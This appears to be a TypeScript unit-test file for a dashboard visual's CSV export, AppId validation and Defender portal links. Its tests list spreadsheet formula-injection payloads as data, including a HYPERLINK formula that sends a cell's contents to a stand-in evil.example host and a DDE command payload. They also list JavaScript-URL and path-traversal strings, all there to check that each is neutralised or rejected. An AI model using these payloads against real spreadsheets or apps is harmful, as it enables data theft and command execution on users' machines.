import { test } from "node:test";
import assert from "node:assert/strict";
import { CSV_BYTE_ORDER_MARK, csvField, csvText } from "../../src/export/csv.ts";
import { normalizeAppId } from "../../src/model/app-id.ts";
import { defenderAppUrl } from "../../src/interaction/defender-link.ts";

/** The records of a CSV text, split by a minimal RFC 4180 reader (quoted fields may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
    assert.ok(text.startsWith(CSV_BYTE_ORDER_MARK), "the text starts with a byte order mark");
    const body = text.slice(1);
    const records: string[][] = [];
    let record: string[] = [];
    let field = "";
    let quoted = false;
    for (let i = 0; i < body.length; i++) {
        const c = body[i];
        if (quoted) {
            if (c === "\"" && body[i + 1] === "\"") { field += "\""; i++; }
            else if (c === "\"") quoted = false;
            else field += c;
        } else if (c === "\"") quoted = true;
        else if (c === ",") { record.push(field); field = ""; }
        else if (c === "\r" && body[i + 1] === "\n") { record.push(field); records.push(record); record = []; field = ""; i++; }
        else field += c;
    }
    assert.equal(field, "", "the text ends with a record end");
    return records;
}

test("a top-apps table becomes CSV in its order, with formatted and raw columns and CRLF records", () => {
    const text = csvText({
        columns: ["Rank", "App", "Category", "Traffic", "Traffic (bytes)", "Users"],
        rows: [
            [1, "Dropbox", "Cloud storage", "4.07 GB", 4_070_000_000, "at least 12"],
            [2, "Box, Inc.", "Cloud storage", "1.2 GB", 1_200_000_000, "7"],
            [3, "ChatGPT", "Generative AI", "512 MB", 512_000_000, null],
        ],
    });
    assert.equal(text, `${CSV_BYTE_ORDER_MARK}"Rank","App","Category","Traffic","Traffic (bytes)","Users"\r\n`
        + `1,"Dropbox","Cloud storage","4.07 GB",4070000000,"at least 12"\r\n`
        + `2,"Box, Inc.","Cloud storage","1.2 GB",1200000000,"7"\r\n`
        + `3,"ChatGPT","Generative AI","512 MB",512000000,\r\n`);
    assert.deepEqual(parseCsv(text)[2], ["2", "Box, Inc.", "Cloud storage", "1.2 GB", "1200000000", "7"]);
});

test("cells that a spreadsheet would run as formulas get a leading single quote; quotes are doubled", () => {
    const hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1",
        "=cmd|' /C calc'!A0",
    ];
    const records = parseCsv(csvText({ columns: ["Name"], rows: hostile.map(name => [name]) }));
    assert.deepEqual(records.slice(1).map(r => r[0]), hostile.map(name => `'${name}`));
    // Inside a name, the characters are harmless and kept as they are.
    assert.equal(csvField("a=b, \"c\"\r\nd"), "\"a=b, \"\"c\"\"\r\nd\"");
    assert.equal(csvField("user@contoso.com"), "\"user@contoso.com\"");
    // Numbers are the visual's own and never prefixed; a negative number stays a number.
    assert.equal(csvField(-5), "-5");
    assert.equal(csvField(Number.NaN), "");
    assert.equal(csvField(null), "");
});

test("a row shorter than the header is padded, and an empty table is its header alone", () => {
    assert.deepEqual(parseCsv(csvText({ columns: ["A", "B"], rows: [["x"]] })), [["A", "B"], ["x", ""]]);
    assert.equal(csvText({ columns: ["A"], rows: [] }), `${CSV_BYTE_ORDER_MARK}"A"\r\n`);
});

test("an AppId is a positive whole number of at most ten digits, as a number or as text", () => {
    assert.equal(normalizeAppId(11161), "11161");
    assert.equal(normalizeAppId(" 11770 "), "11770");
    assert.equal(normalizeAppId("0011770"), "11770");
    assert.equal(normalizeAppId("9999999999"), "9999999999");
    for (const bad of [
        "", "   ", null, undefined, "abc", "12;javascript:alert(1)", "javascript:alert(1)", "12 34", "1e5", "1.5", 1.5,
        -3, 0, "0", "-12", "+12", "12345678901", 12_345_678_901, Number.MAX_VALUE, Number.POSITIVE_INFINITY, Number.NaN,
        "１２３", "12\u202E", "https://evil.example/", true, {}, [12],
    ]) {
        assert.equal(normalizeAppId(bad), null, `no id from ${JSON.stringify(bad)}`);
    }
});

test("the Defender link is built from the AppId's digits alone", () => {
    assert.equal(defenderAppUrl(11161), "https://portal.cloudappsecurity.com/#/services/11161");
    assert.equal(defenderAppUrl("11770"), "https://portal.cloudappsecurity.com/#/services/11770");
    assert.equal(defenderAppUrl("12;javascript:"), null);
    assert.equal(defenderAppUrl("11161/../../evil"), null);
    assert.equal(defenderAppUrl("x".repeat(10_000)), null);
});
